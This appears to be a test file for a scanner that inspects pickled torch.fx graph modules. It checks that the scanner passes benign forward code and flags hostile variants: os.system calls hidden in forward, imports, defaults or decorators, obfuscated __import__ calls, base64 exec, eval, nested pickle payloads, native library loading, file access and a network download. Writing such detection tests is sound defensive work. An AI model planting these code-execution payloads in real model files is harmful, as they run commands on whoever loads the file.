/** Source that loading a pickle runs: `forward` of graphs of torch.fx. Saved ones of deeplc and onnx2torch look like these. */
import { describe, expect, it } from 'vitest';
import { call, global, op, pickle, value } from '../../../samples/assemble.mjs';
import { analyse } from '../support.js';

const IMPORTS =
  'NoneType = type(None)\nfrom math import inf\nfrom math import nan\nfrom torch import device\nimport torch\n' +
  'import torch.fx._pytree as fx_pytree\nimport torch.utils._pytree as pytree';
const FORWARD = `


def forward(self, input_1, input_2):
    weight = self.initializers.weight
    mat_mul = getattr(self, "dense_18/MatMul")(input_1, weight);  input_1 = weight = None
    relu = torch.nn.functional.relu(mat_mul, inplace = False);  mat_mul = None
    add = relu + input_2;  relu = input_2 = None
    size = add.size(0)
    view = add.view(size, -1);  add = size = None
    item = (view, slice(None, -1, None))
    cat = torch.cat([item[0], torch.ops.aten.relu.default(view)], dim = 1);  view = None
    where = torch.where(cat > inf, torch.tensor(1.0, device = device(type='cpu')), cat)
    return pytree.tree_unflatten([where], self._out_spec)
`;

type Body = Record<string, string | Buffer>;
const reduce = (body: Body | Uint8Array, imports: string | Buffer = IMPORTS, name = 'reduce_graph_module') =>
  pickle(
    call(
      global('torch.fx.graph_module', name),
      body instanceof Uint8Array ? body : dict(body),
      value(imports instanceof Buffer ? op.bytes(imports) : imports),
    ),
  );

function dict(body: Body | readonly (readonly [string, string | Buffer])[]): Buffer {
  const pairs = Array.isArray(body) ? (body as readonly (readonly [string, string | Buffer])[]) : Object.entries(body);
  return Buffer.concat([
    op.emptyDict,
    op.mark,
    ...pairs.flatMap(([key, one]) => [value(key), value(one instanceof Buffer ? op.bytes(one) : one)]),
    op.setItems,
  ]);
}

const withLine = (line: string) => FORWARD.replace('    size =', `    ${line}\n    size =`);
const told = async (bytes: Uint8Array): Promise<'accused' | 'open' | 'nothing'> => {
  const { loud, rules, gaps } = await analyse(bytes);
  if (loud.length > 0) return 'accused';
  return rules.includes('STATIC-PICKLE-UNKNOWN-CALL') || gaps.length > 0 ? 'open' : 'nothing';
};

describe('the source of a graph', () => {
  it.each([
    ['as torch writes it', reduce({ training: 'x', _code: FORWARD })],
    ['as old torch writes it', reduce({ code: FORWARD })],
    [
      'longer than texts that are kept',
      reduce({ _code: FORWARD.replace('    size', `${'    x = self.a(input_2)\n'.repeat(2000)}    size`) }),
    ],
    [
      'that calls functions of Python on sizes',
      reduce({ _code: withLine('n = int(max(1, len(item), abs(float(2))))') }),
    ],
    [
      'with getattr of an attribute',
      reduce({ _code: withLine('n = getattr(add, "shape")') }, `${IMPORTS}\nfrom builtins import getattr as getattr`),
    ],
    [
      'quantised',
      reduce({ _code: withLine('q = torch.quantize_per_tensor(add, self.scale, self.zero, torch.quint8)') }),
    ],
    ['with annotations', reduce({ _code: withLine('x : torch.Tensor = add + 1') })],
  ])('is read and is nothing: %s', async (_, bytes) => {
    expect(await told(bytes)).toBe('nothing');
  });

  it.each([
    ['a program in forward', reduce({ _code: withLine("__import__('os').system('id')") })],
    ['a program in the imports', reduce({ _code: FORWARD }, `${IMPORTS}\nimport os\nos.system('id')`)],
    [
      'a program in a default',
      reduce({ _code: FORWARD.replace('input_2)', "input_2=__import__('os').system('id'))") }),
    ],
    [
      'a program past what is kept of a text',
      reduce({ _code: `${FORWARD}${'# x\n'.repeat(5000)}__import__('os').system('id')\n` }),
    ],
    [
      'a program by a name that is made',
      reduce({ _code: withLine("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')") }),
    ],
    ['a file that is written', reduce({ _code: withLine("open('/tmp/x', 'w').write('x')") })],
    ['a file that is read', reduce({ _code: withLine("x = open('/tmp/x').read()") })],
    ['native code', reduce({ _code: withLine("torch.ops.load_library('/tmp/x.so')") })],
    ['another pickle', reduce({ _code: withLine("torch.load('/tmp/x')") })],
    ['a pickle in it', reduce({ _code: withLine(`__import__('pickle').loads(b"cos\\nsystem\\n(S'id'\\ntR.")`) })],
    ['code of a hub', reduce({ _code: withLine("torch.hub.load('a/b', 'c')") })],
    ['the network', reduce({ _code: withLine("torch.hub.download_url_to_file('http://192.0.2.1/x', '/tmp/x')") })],
    ["Python's inside", reduce({ _code: withLine('x = ().__class__.__base__.__subclasses__()') })],
    ['a text that it decodes', reduce({ _code: withLine("exec(__import__('base64').b64decode('aWQ='))") })],
    ['eval of a text', reduce({ _code: withLine('eval(\'__import__("os").system("id")\')') })],
    [
      'one of two texts under the key',
      reduce(
        dict([
          ['_code', withLine("__import__('os').system('id')")],
          ['_code', FORWARD],
        ]),
      ),
    ],
    ['under the old key beside the new', reduce({ _code: FORWARD, code: withLine("__import__('os').system('id')") })],
    [
      'by the function for deployed graphs',
      pickle(
        call(
          global('torch.fx.graph_module', 'reduce_deploy_graph_module'),
          value('x'),
          dict({ _code: withLine("__import__('os').system('id')") }),
          value(IMPORTS),
        ),
      ),
    ],
    ['a map of a function', reduce({ _code: withLine("x = list(map(open, ['/tmp/x']))") })],
    ['a function that it hands on', reduce({ _code: withLine('self.m(open)') })],
    ['a decorator', reduce({ _code: FORWARD.replace('def forward', '@__import__("os").system\ndef forward') })],
  ])('that acts is found: %s', async (_, bytes) => {
    expect(await told(bytes)).toBe('accused');
  });

  it.each([
    [
      'a function of a library that nobody knows',
      reduce({ _code: FORWARD.replace('\n\n\n', '\nimport unheard_of\n') + '    unheard_of.f(1)\n' }),
    ],
    ['a library that nobody knows', reduce({ _code: FORWARD }, `${IMPORTS}\nimport unheard_of\n`)],
    ['a part of torch that it changes', reduce({ _code: withLine('torch.nn.Module.forward = self.x') })],
    ['a text that is bytes', reduce({ _code: Buffer.from(FORWARD) }, Buffer.from(IMPORTS))],
    ['a tensor written to a file', reduce({ _code: withLine("add.numpy().tofile('/tmp/x')") })],
    ['a file that is mapped', reduce({ _code: withLine("add = torch.from_file('/tmp/x', size=3)") })],
    ['a compiler', reduce({ _code: withLine('add = torch.compile(self)(add)') })],
    ['other machines', reduce({ _code: withLine("torch.distributed.init_process_group('gloo')") })],
    ['no text', reduce({ training: 'x' })],
    ['a dict that a call makes', reduce(call(global('collections', 'OrderedDict')))],
    ['more than is read', reduce({ _code: `${FORWARD}${'# x\n'.repeat(1_500_000)}` })],
  ])('that is not known to its end is a gap: %s', async (_, bytes) => {
    expect(await told(bytes)).not.toBe('nothing');
  });
});
